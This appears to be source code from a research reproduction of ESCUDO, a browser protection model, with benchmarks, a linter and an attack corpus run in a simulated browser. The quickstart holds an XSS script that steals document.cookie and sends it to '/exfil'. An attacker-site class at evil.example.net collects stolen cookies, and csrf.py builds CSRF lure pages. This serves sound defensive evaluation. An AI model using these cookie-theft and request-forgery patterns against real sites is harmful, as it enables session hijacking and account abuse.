from repro.bench import format_defense_matrix


def main() -> None:
    attacks = phpbb_xss_attacks() + phpbb_csrf_attacks()
    print(f"Running {len(attacks)} attacks against the phpBB miniature "
          "(input validation and CSRF tokens removed)...\n")
    results = defense_effectiveness_matrix(attacks)
    print(format_defense_matrix(results))
    print()
    for model, model_results in results.items():
        stats = summarize(model_results)
        print(f"under {model:>6}: {stats['succeeded']}/{stats['total']} attacks succeeded, "
              f"{stats['neutralized']} neutralized")
    print("\nExpected shape (paper, Section 6.4): every attack is neutralized "
          "under ESCUDO and succeeds under the legacy model.")


if __name__ == "__main__":
    main()
