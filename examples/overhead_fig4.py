#!/usr/bin/env python3
"""Figure 4: parsing/rendering overhead of ESCUDO over eight page scenarios.

Loads each generated scenario repeatedly through the browser's parse →
configure → label → render pipeline, once with ESCUDO enforcement and once
with the legacy model ignoring the configuration, and prints the per-scenario
times plus the average relative overhead (the paper reports ≈5 %).

Run with::

    python examples/overhead_fig4.py [repetitions]
"""

from __future__ import annotations

import sys

from repro.bench import all_workloads, format_figure4, measure_all


def main() -> None:
    repetitions = int(sys.argv[1]) if len(sys.argv) > 1 else 30
    print(f"Measuring 8 scenarios x 2 variants x {repetitions} repetitions...\n")
    rows = measure_all(all_workloads(), repetitions=repetitions)
    print(format_figure4(rows))
    print("\nNote: absolute times are not comparable to the paper (different "
          "hardware and a synthetic pure-Python pipeline); the reproduction "
          "targets the *shape* -- a small relative overhead that grows slowly "
          "with the number of AC tags.")


if __name__ == "__main__":
    main()
