#!/usr/bin/env python3
"""Quickstart: load an ESCUDO-configured page and watch the mediation work.

Runs the same tiny single-page application in two browsers -- one enforcing
ESCUDO, one enforcing the legacy same-origin policy -- and shows what a
script hidden in untrusted user content can and cannot do under each model.

Run with::

    python examples/quickstart.py
"""

from __future__ import annotations

from repro import quick_demo
from repro.browser import Browser
from repro.core import Acl, PageConfiguration, ResourcePolicy, Ring
from repro.http import HttpResponse, Network


class TinyApp:
    """A one-page application configured for ESCUDO."""

    PAGE = """<!DOCTYPE html><html>
<head><title>tiny bank</title></head>
<body>
<div ring="1" r="1" w="1" x="1" nonce="chrome-1">
  <h1 id="banner">tiny bank</h1>
  <p id="balance">balance: 1,000 credits</p>
  <script>
    // Trusted application script (ring 1): allowed to refresh the balance.
    var balanceNode = document.getElementById('balance');
    balanceNode.setAttribute('data-refreshed', 'yes');
  </script>
</div nonce="chrome-1">
<div ring="3" r="2" w="2" x="2" nonce="ugc-1">
  <p id="guestbook">guest says: nice site!</p>
  <script>
    // Untrusted script hidden in user content (ring 3): tries to tamper.
    var target = document.getElementById('balance');
    if (target != null) { target.innerHTML = 'balance: 0 credits (hacked)'; }
    var stolen = document.cookie;
    var xhr = new XMLHttpRequest();
    xhr.open('GET', '/exfil?cookie=' + stolen);
    xhr.send();
  </script>
</div nonce="ugc-1">
</body></html>"""

    def handle_request(self, request):
        if request.url.path == "/":
            response = HttpResponse.html(self.PAGE)
            response.set_cookie("bank_session", "s3cr3t-token")
            configuration = PageConfiguration()
            configuration.cookie_policies["bank_session"] = ResourcePolicy(ring=Ring(1), acl=Acl.uniform(1))
            configuration.api_policies["XMLHttpRequest"] = ResourcePolicy(ring=Ring(1), acl=Acl.uniform(1))
            response.apply_escudo_headers(configuration)
            return response
        return HttpResponse.text("ok")


def run_model(model: str) -> None:
    network = Network()
    network.register("http://bank.example.com", TinyApp())
    browser = Browser(network, model=model)
    loaded = browser.load("http://bank.example.com/")
    page = loaded.page

    balance = page.document.get_element_by_id("balance")
    exfiltrated = network.requests_matching(path_prefix="/exfil")
    print(f"--- {model} browser " + "-" * 40)
    print(f"  balance element reads  : {balance.text_content!r}")
    print(f"  trusted refresh worked : {balance.get_attribute('data-refreshed') == 'yes'}")
    print(f"  cookie exfiltrated     : {bool(exfiltrated and 's3cr3t' in str(exfiltrated[0].url))}")
    print(f"  mediated accesses      : {page.monitor.stats.total} "
          f"(denied {page.monitor.stats.denied})")
    for decision in page.monitor.audit.denials():
        print(f"    denied: {decision}")


def main() -> None:
    print("ESCUDO reproduction quickstart\n")
    for model in ("escudo", "sop"):
        run_model(model)
    print()
    print("Blog demo (same malicious comment under both models):")
    print(quick_demo())


if __name__ == "__main__":
    main()
