"""Setuptools entry point.

The pyproject.toml metadata drives the build; this file exists so that
``pip install -e .`` can fall back to the legacy editable-install path on
machines without the ``wheel`` package (as in the offline evaluation
environment).
"""

from setuptools import setup

setup()
