"""ESCUDO reproduction: a fine-grained protection model for web browsers.

The package layout mirrors the system inventory in ``DESIGN.md``:

* :mod:`repro.core` -- the ESCUDO model itself (rings, ACLs, policy,
  reference monitor) plus the same-origin-policy baseline;
* :mod:`repro.html`, :mod:`repro.dom`, :mod:`repro.scripting`,
  :mod:`repro.http`, :mod:`repro.browser` -- the browser substrates;
* :mod:`repro.webapps` -- the server-side framework and the phpBB /
  PHP-Calendar / blog case studies;
* :mod:`repro.attacks` -- the XSS / CSRF / node-splitting attack corpus;
* :mod:`repro.scenarios` -- the differential scenario engine (randomized
  multi-user sessions under a policy matrix, with a parity oracle);
* :mod:`repro.bench` -- workload generators and reporting for the
  benchmark harness.

Quickstart::

    from repro import quick_demo
    print(quick_demo())
"""

from __future__ import annotations

__version__ = "1.0.0"


def quick_demo() -> str:
    """Run the one-paragraph demo from the README and return its report.

    Loads the blog example application in an ESCUDO browser and in a
    same-origin-policy browser, injects the same malicious comment script in
    both, and reports whether the trusted blog post survived.
    """
    from repro.attacks.harness import quick_blog_demo

    return quick_blog_demo()


__all__ = ["__version__", "quick_demo"]
