"""Static-analysis tier: mediation-flow screening + repo-invariant linting.

Two independent layers share this package:

- :mod:`repro.analysis.soundness` -- the runtime side of the script
  analyzer (:mod:`repro.scripting.analysis`): a :class:`StaticScreen`
  attributes every reference-monitor decision to the script that caused it
  and checks the soundness contract *dynamic accesses ⊆ static prediction*
  per script digest.
- :mod:`repro.analysis.repolint` -- a Python-``ast`` linter that turns the
  repo's dynamic invariants (touch-state honesty, cache ``reset_counters``,
  determinism, pickle confinement) into static CI gates.
"""

from .soundness import (
    SoundnessViolation,
    StaticScreen,
    classify_decision,
)

__all__ = [
    "SoundnessViolation",
    "StaticScreen",
    "classify_decision",
]
