"""Repo-invariant linter: static CI gates for the invariants tests enforce.

PRs 5-8 added *dynamic* checks for a family of repo invariants -- cache
snapshots must reset telemetry, webapp mutations must advance the state
generation so response memos invalidate, scenario runs must be
deterministic, warm-state pickling must stay confined to the two modules
built for it.  This module turns them into *static* rules over the Python
AST so CI rejects a violating diff before any scenario runs.

Rule catalogue (ids are what suppressions name):

``webapps-touch-state``
    Every POST route handler in ``repro.webapps`` must (transitively, via
    module-local ``self.*`` calls) either advance the content generation
    (``touch_state`` / storage mutators ``insert``/``update``/``delete``/
    ``bump``) or mutate the session tier (``login``/``logout``/
    ``sessions.create``/``sessions.destroy``).  A mutator that does neither
    serves stale memoised responses.
``cache-reset-counters``
    Every class named ``*Cache`` must define ``reset_counters`` -- the
    warm-snapshot protocol calls it on every shipped cache so per-worker
    telemetry starts cold.
``determinism``
    No ``time.time`` / ``time.time_ns`` / ``random.random`` /
    ``datetime.now`` / ``datetime.utcnow`` calls inside ``src/repro``:
    scenario replay and the parallel-executor parity oracle require
    virtual-clock time and seeded randomness only.
``no-bare-except``
    ``except:`` swallows ``BudgetExceeded`` and ``AccessDenied`` signals
    the engine relies on; name the exception type.
``pickle-confinement``
    ``pickle`` imports are allowed only in the warm-state modules
    (``browser/compile_cache.py``, ``scenarios/parallel.py``); anywhere
    else it is an eval-equivalent deserialization surface.

Suppression: append ``# repolint: allow[<rule-id>]`` to the flagged line.

Run as ``python -m repro.analysis.repolint [paths...]`` (default
``src/repro``); exits non-zero when violations remain.
"""

from __future__ import annotations

import ast
import re
import sys
from dataclasses import dataclass
from pathlib import Path

#: Modules allowed to import pickle (warm-state shipping only).
PICKLE_ALLOWED = ("browser/compile_cache.py", "scenarios/parallel.py")

#: ``module.attribute`` call chains banned by the determinism rule.
NONDETERMINISTIC_CALLS = {
    ("time", "time"),
    ("time", "time_ns"),
    ("random", "random"),
    ("datetime", "now"),
    ("datetime", "utcnow"),
}

#: Attribute names on ``self.storage`` that advance the content version.
STORAGE_MUTATORS = {"insert", "update", "delete", "bump", "seed"}

#: Attribute names on ``self.sessions`` that advance the session version.
SESSION_MUTATORS = {"create", "destroy"}

#: ``self.<name>(...)`` calls that count as state mutation directly.
SELF_MUTATORS = {"touch_state", "login", "logout"}

_SUPPRESS_RE = re.compile(r"#\s*repolint:\s*allow\[([a-z0-9-]+)\]")


@dataclass(frozen=True)
class Violation:
    """One rule breach at a specific source location."""

    path: str
    line: int
    rule: str
    message: str

    def __str__(self) -> str:
        return f"{self.path}:{self.line}: [{self.rule}] {self.message}"


class Rule:
    """Base class: subclasses set ``rule_id`` and implement ``check``."""

    rule_id = ""

    def check(self, tree: ast.Module, path: Path) -> list[Violation]:
        raise NotImplementedError

    def _violation(self, path: Path, node: ast.AST, message: str) -> Violation:
        return Violation(str(path), getattr(node, "lineno", 0), self.rule_id, message)


def _self_attr_chain(node: ast.AST) -> tuple[str, ...] | None:
    """``self.a.b`` -> ("a", "b"); None when not rooted at ``self``."""
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name) and node.id == "self":
        return tuple(reversed(parts))
    return None


class WebappsTouchStateRule(Rule):
    """POST handlers must mutate state through a tracked channel."""

    rule_id = "webapps-touch-state"

    def check(self, tree: ast.Module, path: Path) -> list[Violation]:
        if "webapps" not in path.parts:
            return []
        violations: list[Violation] = []
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                violations.extend(self._check_class(node, path))
        return violations

    def _check_class(self, class_def: ast.ClassDef, path: Path) -> list[Violation]:
        methods: dict[str, ast.FunctionDef] = {
            item.name: item
            for item in class_def.body
            if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef))
        }
        post_handlers = self._post_handlers(class_def)
        violations: list[Violation] = []
        for handler_name in sorted(post_handlers):
            method = methods.get(handler_name)
            if method is None:
                continue
            if not self._mutates(method, methods, seen=set()):
                violations.append(
                    self._violation(
                        path,
                        method,
                        f"POST handler {class_def.name}.{handler_name} never calls "
                        "touch_state()/login()/logout() or a storage/session mutator "
                        "-- memoised responses will go stale",
                    )
                )
        return violations

    def _post_handlers(self, class_def: ast.ClassDef) -> set[str]:
        handlers: set[str] = set()
        for node in ast.walk(class_def):
            if not (isinstance(node, ast.Call) and len(node.args) >= 3):
                continue
            chain = _self_attr_chain(node.func)
            if chain != ("route",):
                continue
            method_arg = node.args[0]
            if not (isinstance(method_arg, ast.Constant) and method_arg.value == "POST"):
                continue
            handler_chain = _self_attr_chain(node.args[2])
            if handler_chain is not None and len(handler_chain) == 1:
                handlers.add(handler_chain[0])
        return handlers

    def _mutates(self, method: ast.FunctionDef, methods, seen: set[str]) -> bool:
        for node in ast.walk(method):
            if not isinstance(node, ast.Call):
                continue
            chain = _self_attr_chain(node.func)
            if chain is None:
                continue
            if len(chain) == 1:
                name = chain[0]
                if name in SELF_MUTATORS:
                    return True
                # Recurse through module-local helpers (``self._insert(...)``).
                helper = methods.get(name)
                if helper is not None and name not in seen:
                    seen.add(name)
                    if self._mutates(helper, methods, seen):
                        return True
            elif len(chain) == 2:
                root, leaf = chain
                if root == "storage" and leaf in STORAGE_MUTATORS:
                    return True
                if root == "sessions" and leaf in SESSION_MUTATORS:
                    return True
        return False


class CacheResetCountersRule(Rule):
    """``*Cache`` classes must implement the warm-snapshot telemetry hook."""

    rule_id = "cache-reset-counters"

    def check(self, tree: ast.Module, path: Path) -> list[Violation]:
        violations: list[Violation] = []
        for node in ast.walk(tree):
            if not isinstance(node, ast.ClassDef):
                continue
            if not node.name.endswith("Cache"):
                continue
            has_hook = any(
                isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef))
                and item.name == "reset_counters"
                for item in node.body
            )
            if not has_hook:
                violations.append(
                    self._violation(
                        path,
                        node,
                        f"cache class {node.name} does not define reset_counters() "
                        "-- warm-state restore cannot start its telemetry cold",
                    )
                )
        return violations


class DeterminismRule(Rule):
    """No wall-clock or unseeded randomness inside the engine."""

    rule_id = "determinism"

    def check(self, tree: ast.Module, path: Path) -> list[Violation]:
        violations: list[Violation] = []
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            if not (isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name)):
                continue
            pair = (func.value.id, func.attr)
            if pair in NONDETERMINISTIC_CALLS:
                violations.append(
                    self._violation(
                        path,
                        node,
                        f"{pair[0]}.{pair[1]}() breaks scenario determinism; use the "
                        "virtual clock / a seeded Random instead",
                    )
                )
        return violations


class NoBareExceptRule(Rule):
    """``except:`` must name a type (it would swallow engine signals)."""

    rule_id = "no-bare-except"

    def check(self, tree: ast.Module, path: Path) -> list[Violation]:
        return [
            self._violation(path, node, "bare except: name the exception type")
            for node in ast.walk(tree)
            if isinstance(node, ast.ExceptHandler) and node.type is None
        ]


class PickleConfinementRule(Rule):
    """pickle stays inside the warm-state modules built for it."""

    rule_id = "pickle-confinement"

    def check(self, tree: ast.Module, path: Path) -> list[Violation]:
        posix = path.as_posix()
        if any(posix.endswith(allowed) for allowed in PICKLE_ALLOWED):
            return []
        violations: list[Violation] = []
        for node in ast.walk(tree):
            imported = None
            if isinstance(node, ast.Import):
                if any(alias.name.split(".")[0] == "pickle" for alias in node.names):
                    imported = "import pickle"
            elif isinstance(node, ast.ImportFrom):
                if node.module and node.module.split(".")[0] == "pickle":
                    imported = "from pickle import ..."
            if imported:
                allowed = ", ".join(PICKLE_ALLOWED)
                violations.append(
                    self._violation(
                        path,
                        node,
                        f"{imported} outside the warm-state modules ({allowed})",
                    )
                )
        return violations


#: Identifier fragments that mark a loop as a retry/backoff loop.
_RETRY_MARKERS = ("retry", "retries", "attempt", "backoff")


class BoundedRetryRule(Rule):
    """Retry loops must carry an explicit attempt bound.

    A ``while True`` (or ``while 1``) loop whose body talks about retries,
    attempts or backoff is the unbounded-resilience anti-pattern: one
    permanently failing fault site would spin it forever.  The fault
    plane's burst cap only guarantees convergence to *bounded* loops, so
    retry loops are written ``for attempt in range(N)`` -- the cap is then
    visible at the call site and enforced by construction.
    """

    rule_id = "bounded-retry"

    @staticmethod
    def _is_while_true(node: ast.While) -> bool:
        test = node.test
        return isinstance(test, ast.Constant) and test.value in (True, 1)

    @staticmethod
    def _mentions_retry(node: ast.While) -> bool:
        for child in ast.walk(node):
            name = None
            if isinstance(child, ast.Name):
                name = child.id
            elif isinstance(child, ast.Attribute):
                name = child.attr
            elif isinstance(child, ast.arg):
                name = child.arg
            if name is None:
                continue
            lowered = name.lower()
            if any(marker in lowered for marker in _RETRY_MARKERS):
                return True
        return False

    def check(self, tree: ast.Module, path: Path) -> list[Violation]:
        return [
            self._violation(
                path,
                node,
                "unbounded retry loop: 'while True' with retry/attempt/backoff "
                "state; use 'for attempt in range(N)' so the attempt cap is "
                "explicit",
            )
            for node in ast.walk(tree)
            if isinstance(node, ast.While)
            and self._is_while_true(node)
            and self._mentions_retry(node)
        ]


#: Default rule set, in report order.
ALL_RULES: tuple[Rule, ...] = (
    WebappsTouchStateRule(),
    CacheResetCountersRule(),
    DeterminismRule(),
    NoBareExceptRule(),
    PickleConfinementRule(),
    BoundedRetryRule(),
)


def _suppressed(violation: Violation, source_lines: list[str]) -> bool:
    index = violation.line - 1
    if 0 <= index < len(source_lines):
        for match in _SUPPRESS_RE.finditer(source_lines[index]):
            if match.group(1) == violation.rule:
                return True
    return False


def lint_file(path: Path, rules: tuple[Rule, ...] = ALL_RULES) -> list[Violation]:
    """Run every rule over one file, honouring inline suppressions."""
    source = path.read_text(encoding="utf-8")
    try:
        tree = ast.parse(source, filename=str(path))
    except SyntaxError as error:
        return [Violation(str(path), error.lineno or 0, "syntax", str(error.msg))]
    lines = source.splitlines()
    violations: list[Violation] = []
    for rule in rules:
        for violation in rule.check(tree, path):
            if not _suppressed(violation, lines):
                violations.append(violation)
    return violations


def lint_paths(paths: list[Path], rules: tuple[Rule, ...] = ALL_RULES) -> list[Violation]:
    """Lint every ``.py`` file under ``paths`` (files or directories)."""
    files: list[Path] = []
    for path in paths:
        if path.is_dir():
            files.extend(sorted(path.rglob("*.py")))
        else:
            files.append(path)
    violations: list[Violation] = []
    for file_path in files:
        violations.extend(lint_file(file_path, rules))
    violations.sort(key=lambda v: (v.path, v.line, v.rule))
    return violations


def main(argv: list[str] | None = None) -> int:
    arguments = list(sys.argv[1:] if argv is None else argv)
    targets = [Path(argument) for argument in arguments] or [Path("src/repro")]
    missing = [target for target in targets if not target.exists()]
    if missing:
        print(f"repolint: no such path: {missing[0]}", file=sys.stderr)
        return 2
    violations = lint_paths(targets)
    for violation in violations:
        print(violation)
    checked = sum(
        len(sorted(target.rglob("*.py"))) if target.is_dir() else 1 for target in targets
    )
    status = "clean" if not violations else f"{len(violations)} violation(s)"
    print(f"repolint: {checked} file(s) checked, {status}", file=sys.stderr)
    return 1 if violations else 0


if __name__ == "__main__":
    sys.exit(main())
