"""Runtime screen checking the static analyzer's soundness contract.

:class:`StaticScreen` sits between the reference monitor and the static
analyzer.  Browsers created with a screen install ``screen.record`` as the
monitor's per-decision observer and wrap every script execution (document
scripts, inline handlers, timers, listeners, async XHR completions) in
``screen.attribute(digest)``, so each mediation decision lands on the digest
of the script that caused it.  Each digest's report comes from the memoised
:class:`~repro.scripting.cache.ScriptReportCache` tier.

:meth:`StaticScreen.verify` then enforces, per script::

    {categories of dynamically recorded decisions}  ⊆  report.sinks

Any uncovered category is a **false negative** -- the analyzer claimed a
script could never trigger a mediation it demonstrably did -- and raises
:class:`SoundnessViolation` naming the digest, the missing categories and a
source excerpt.  Over-prediction (sinks never observed) is tolerated and
surfaced as a false-positive rate via :meth:`false_positive_stats`.
"""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass, field

from repro.core.decision import AccessDecision, Operation
from repro.scripting.analysis import (
    COOKIE_READ,
    COOKIE_USE,
    COOKIE_WRITE,
    DOM_READ,
    DOM_USE,
    DOM_WRITE,
    XHR_USE,
)
from repro.scripting.cache import ScriptReportCache

#: ``object_label`` of the USE decision guarding the DOM native API.
_DOM_API_LABEL = "DOM API (native-api)"
#: ``object_label`` of the USE decision guarding XHR completion.
_XHR_LABEL = "XMLHttpRequest (native-api)"


def classify_decision(decision: AccessDecision) -> str | None:
    """Map a monitor decision to its static sink category.

    Classification keys on the decision's ``(operation, object_label)``
    pair, mirroring how the mediation layer labels its targets:

    - ``cookie:<name>`` -- cookie jar entries;
    - ``XMLHttpRequest (native-api)`` / ``DOM API (native-api)`` -- native
      API use checks;
    - ``<tag> ...`` -- per-element decisions (including tamper denials,
      whose label is the bare ``<tag>``).

    Returns ``None`` for labels outside the script-reachable surface; the
    screen records those and :meth:`StaticScreen.verify` fails loudly, so a
    new mediation path cannot silently escape the soundness check.
    """
    label = decision.object_label
    operation = decision.operation
    if label.startswith("cookie:"):
        if operation is Operation.READ:
            return COOKIE_READ
        if operation is Operation.WRITE:
            return COOKIE_WRITE
        return COOKIE_USE
    if label == _XHR_LABEL:
        return XHR_USE
    if label == _DOM_API_LABEL:
        return DOM_USE
    if label.startswith("<"):
        if operation is Operation.READ:
            return DOM_READ
        if operation is Operation.WRITE:
            return DOM_WRITE
        return DOM_USE
    return None


@dataclass
class SoundnessViolation(AssertionError):
    """A script dynamically triggered a mediation its report ruled out."""

    digest: str
    missing: frozenset[str]
    predicted: frozenset[str]
    source_excerpt: str

    def __str__(self) -> str:
        return (
            f"static analysis missed sink(s) {sorted(self.missing)} for script "
            f"{self.digest[:12]}… (predicted {sorted(self.predicted)}): "
            f"{self.source_excerpt!r}"
        )


@dataclass
class _ScriptRecord:
    """Dynamic observations accumulated for one script digest."""

    source_excerpt: str
    report: object = None
    observed: set[str] = field(default_factory=set)
    executions: int = 0


class StaticScreen:
    """Per-suite accumulator pairing static reports with dynamic audits."""

    def __init__(self, reports: ScriptReportCache | None = None) -> None:
        #: Memoised analysis tier; shared with warm-state snapshots when the
        #: caller passes ``CompileCaches.reports``.
        self.reports = reports if reports is not None else ScriptReportCache()
        #: digest -> dynamic record, for every script ever screened.
        self._records: dict[str, _ScriptRecord] = {}
        #: Stack of digests for the executions currently on the call stack
        #: (handlers fired from within scripts nest).
        self._stack: list[str] = []
        #: ``(digest, operation, object_label)`` of decisions no category
        #: claims -- a non-empty set fails :meth:`verify`.
        self.unclassified: list[tuple[str, str, str]] = []
        #: Decisions recorded while no script was executing (page build,
        #: warm-up) -- outside the contract by construction.
        self.unattributed = 0

    # -- attribution -------------------------------------------------------------------

    def observe_script(self, source: str, *, parse=None) -> str:
        """Analyze ``source`` (memoised) and register its digest.

        ``parse`` lets the caller share its AST-cache tier with the
        analyzer.  Returns the digest to pass to :meth:`attribute`.
        """
        if parse is None:
            report = self.reports.report_for(source)
        else:
            report = self.reports.report_for(source, parse=parse)
        record = self._records.get(report.digest)
        if record is None:
            excerpt = " ".join(source.split())[:120]
            # Pin the report on the record: LRU eviction in the shared cache
            # must never exempt a script from verification.
            record = _ScriptRecord(source_excerpt=excerpt, report=report)
            self._records[report.digest] = record
        record.executions += 1
        return report.digest

    @contextmanager
    def attribute(self, digest: str):
        """Attribute monitor decisions inside the block to ``digest``."""
        self._stack.append(digest)
        try:
            yield
        finally:
            self._stack.pop()

    def record(self, decision: AccessDecision) -> None:
        """Monitor observer: file ``decision`` under the active script."""
        if not self._stack:
            self.unattributed += 1
            return
        digest = self._stack[-1]
        category = classify_decision(decision)
        if category is None:
            self.unclassified.append(
                (digest, decision.operation.value, decision.object_label)
            )
            return
        record = self._records.get(digest)
        if record is not None:
            record.observed.add(category)

    # -- verification ------------------------------------------------------------------

    def violations(self) -> list[SoundnessViolation]:
        """Every script whose dynamic accesses escape its predicted sinks."""
        found: list[SoundnessViolation] = []
        for digest, record in self._records.items():
            report = record.report
            missing = record.observed - report.sinks
            if missing:
                found.append(
                    SoundnessViolation(
                        digest=digest,
                        missing=frozenset(missing),
                        predicted=report.sinks,
                        source_excerpt=record.source_excerpt,
                    )
                )
        return found

    def verify(self) -> dict[str, object]:
        """Enforce the soundness contract; returns summary stats when green.

        Raises :class:`SoundnessViolation` on the first false negative and
        :class:`AssertionError` when any decision failed classification
        (an unknown mediation surface must extend the classifier, not slip
        through).
        """
        if self.unclassified:
            sample = self.unclassified[:5]
            raise AssertionError(
                f"{len(self.unclassified)} monitor decision(s) could not be "
                f"classified into a sink category; first: {sample}"
            )
        found = self.violations()
        if found:
            raise found[0]
        return self.false_positive_stats()

    def false_positive_stats(self) -> dict[str, object]:
        """Over-approximation quality of the analyzer on this corpus.

        A *false positive* is a predicted sink never observed for a script
        that actually executed (scripts whose every sink went unobserved
        because, say, policy denied them early still count -- the analyzer
        cannot know the policy).
        """
        scripts = 0
        predicted_total = 0
        observed_total = 0
        exact = 0
        for record in self._records.values():
            report = record.report
            scripts += 1
            predicted_total += len(report.sinks)
            observed_total += len(record.observed)
            if record.observed == report.sinks:
                exact += 1
        false_positives = predicted_total - observed_total
        return {
            "scripts": scripts,
            "predicted_sinks": predicted_total,
            "observed_sinks": observed_total,
            "false_positive_sinks": false_positives,
            "false_positive_rate": (
                false_positives / predicted_total if predicted_total else 0.0
            ),
            "exact_scripts": exact,
            "unattributed_decisions": self.unattributed,
        }

    def as_dict(self) -> dict[str, object]:
        """JSON-friendly summary for benchmark reports."""
        stats = self.false_positive_stats()
        stats["report_cache"] = self.reports.as_dict()
        return stats
