"""Attack corpus: XSS, CSRF, node-splitting and privilege-escalation attacks."""

from .attacker import AttackerSite, CollectedLoot
from .csrf import all_csrf_attacks, forged_state_present, phpbb_csrf_attacks, phpcalendar_csrf_attacks
from .harness import (
    Attack,
    AttackEnvironment,
    AttackResult,
    build_environment,
    defense_effectiveness_matrix,
    login_victim,
    make_application,
    quick_blog_demo,
    run_attacks,
    summarize,
    visit,
    visit_attacker,
)
from .node_splitting import (
    all_node_splitting_attacks,
    injected_script_ring,
    node_splitting_payload,
    phpbb_node_splitting_attack,
)
from .privilege_escalation import (
    all_privilege_escalation_attacks,
    fake_chrome_ring,
    mint_privileged_child_attack,
    remap_attack,
    tamper_denials,
)
from .toctou import all_toctou_attacks, phpbb_toctou_attacks
from .xss import all_xss_attacks, phpbb_xss_attacks, phpcalendar_xss_attacks

__all__ = [
    "Attack",
    "AttackEnvironment",
    "AttackResult",
    "AttackerSite",
    "CollectedLoot",
    "all_csrf_attacks",
    "all_node_splitting_attacks",
    "all_privilege_escalation_attacks",
    "all_toctou_attacks",
    "all_xss_attacks",
    "build_environment",
    "defense_effectiveness_matrix",
    "fake_chrome_ring",
    "forged_state_present",
    "injected_script_ring",
    "login_victim",
    "make_application",
    "mint_privileged_child_attack",
    "node_splitting_payload",
    "phpbb_csrf_attacks",
    "phpbb_node_splitting_attack",
    "phpbb_toctou_attacks",
    "phpbb_xss_attacks",
    "phpcalendar_csrf_attacks",
    "phpcalendar_xss_attacks",
    "quick_blog_demo",
    "remap_attack",
    "run_attacks",
    "summarize",
    "tamper_denials",
    "visit",
    "visit_attacker",
]
