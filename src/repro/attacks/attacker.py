"""The attacker's web site.

CSRF attacks in the paper are launched from "a malicious web site that
crafted cross-origin requests for the two web applications, when accessed by
a user".  :class:`AttackerSite` plays that role: the attack builders register
HTML pages on it (lure pages full of ``img``/``iframe``/``form``/script
vectors), and it also exposes a ``/collect`` endpoint that records whatever
query parameters reach it -- the drop box XSS payloads exfiltrate stolen
cookies to.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.http.messages import HttpRequest, HttpResponse


@dataclass
class CollectedLoot:
    """One exfiltration hit received by the attacker's collection endpoint."""

    path: str
    params: dict[str, str]
    cookies: dict[str, str]

    def contains(self, needle: str) -> bool:
        """Whether the stolen payload mentions ``needle`` anywhere."""
        haystack = " ".join(list(self.params.values()) + [f"{k}={v}" for k, v in self.cookies.items()])
        return needle in haystack


@dataclass
class AttackerSite:
    """A malicious origin serving lure pages and collecting exfiltrated data."""

    origin: str = "http://evil.example.net"
    pages: dict[str, str] = field(default_factory=dict)
    loot: list[CollectedLoot] = field(default_factory=list)

    # -- authoring ------------------------------------------------------------------

    def set_page(self, path: str, html: str) -> str:
        """Register a lure page and return its absolute URL."""
        if not path.startswith("/"):
            path = "/" + path
        self.pages[path] = html
        return f"{self.origin}{path}"

    def clear(self) -> None:
        """Forget every page and every piece of loot (fresh experiment)."""
        self.pages.clear()
        self.loot.clear()

    # -- the HTTP server side -----------------------------------------------------------

    def handle_request(self, request: HttpRequest) -> HttpResponse:
        path = request.url.path
        if path.startswith("/collect"):
            self.loot.append(
                CollectedLoot(path=path, params=dict(request.params), cookies=dict(request.cookies))
            )
            return HttpResponse.text("thanks")
        if path in self.pages:
            return HttpResponse.html(self.pages[path])
        return HttpResponse.not_found("nothing to see here")

    # -- queries ---------------------------------------------------------------------------

    def received(self, needle: str) -> bool:
        """Whether any exfiltrated data contains ``needle``."""
        return any(item.contains(needle) for item in self.loot)

    @property
    def hits(self) -> int:
        """Number of exfiltration hits received."""
        return len(self.loot)
