"""The cross-site-request-forgery attack corpus.

Five CSRF attacks per application, mirroring Section 6.4: a malicious site,
when visited by a logged-in victim, crafts cross-origin requests to the
target application using the classic vectors -- ``img`` tags, ``iframe``
tags, auto-submitting forms, scripts calling ``XMLHttpRequest``, and links
the victim is tricked into following.

Success criterion (the paper's): the forged request reaches the target
application *with the victim's session cookie attached*.  Under the legacy
same-origin policy browsers attach cookies to every request addressed to the
cookie's origin regardless of who issued it; under ESCUDO the request-issuing
principal (which belongs to the attacker's origin and to no privileged ring
of the target's page) fails the cookie's ``use`` check, so the request goes
out bare and the server treats it as unauthenticated.
"""

from __future__ import annotations

from .harness import Attack, AttackEnvironment, visit_attacker

#: Topic/event titles the forged requests try to create (used by state checks).
FORGED_TITLE = "CSRF-FORGED"


# -- lure page builders ------------------------------------------------------------------------------


def _lure_with_img(target_origin: str, path_and_query: str) -> str:
    return (
        "<html><body><h1>Cute kittens</h1>"
        f'<img src="{target_origin}{path_and_query}">'
        "</body></html>"
    )


def _lure_with_iframe(target_origin: str, path_and_query: str) -> str:
    return (
        "<html><body><h1>Free screensavers</h1>"
        f'<iframe src="{target_origin}{path_and_query}"></iframe>'
        "</body></html>"
    )


def _lure_with_xhr(target_origin: str, path_and_query: str) -> str:
    return (
        "<html><body><h1>You won!</h1><script>"
        "var xhr = new XMLHttpRequest();"
        f"xhr.open('POST', '{target_origin}{path_and_query}');"
        "xhr.send();"
        "</script></body></html>"
    )


def _lure_with_form(target_origin: str, action_path: str, fields: dict[str, str]) -> str:
    inputs = "".join(
        f'<input type="hidden" name="{name}" value="{value}">' for name, value in fields.items()
    )
    return (
        "<html><body><h1>Claim your prize</h1>"
        f'<form id="csrf-form" method="POST" action="{target_origin}{action_path}">{inputs}'
        '<input type="submit" value="Claim"></form>'
        "</body></html>"
    )


def _lure_with_link(target_origin: str, path_and_query: str) -> str:
    return (
        "<html><body>"
        f'<a id="csrf-link" href="{target_origin}{path_and_query}">Click for a discount!</a>'
        "</body></html>"
    )


# -- victim actions -------------------------------------------------------------------------------------


def _visit_lure(path: str):
    def action(env: AttackEnvironment) -> None:
        visit_attacker(env, path)

    return action


def _visit_lure_and_submit_form(path: str):
    def action(env: AttackEnvironment) -> None:
        loaded = visit_attacker(env, path)
        # The lure page "auto-submits" its form: the acting principal is the
        # form element on the attacker's page, exactly as in a scripted
        # auto-submit.
        env.browser.submit_form(loaded, "csrf-form")

    return action


def _visit_lure_and_click(path: str):
    def action(env: AttackEnvironment) -> None:
        loaded = visit_attacker(env, path)
